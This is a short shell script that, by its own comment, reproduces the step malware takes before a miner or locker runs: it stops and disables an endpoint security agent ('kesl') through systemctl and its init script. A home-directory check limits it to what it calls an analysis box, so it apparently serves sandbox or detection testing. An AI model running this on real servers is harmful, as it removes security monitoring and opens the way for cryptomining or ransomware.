#!/bin/sh
# SPDX-License-Identifier: MIT
# Before a miner or a locker runs on a server, the endpoint agent is
# stopped and kept from starting again, by the service manager and by its
# init script.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
systemctl stop kesl 2>/dev/null
systemctl disable kesl 2>/dev/null
systemctl stop kesl-supervisor 2>/dev/null
[ -x /etc/init.d/kesl ] && /bin/sh /etc/init.d/kesl stop 2>/dev/null
exit 0
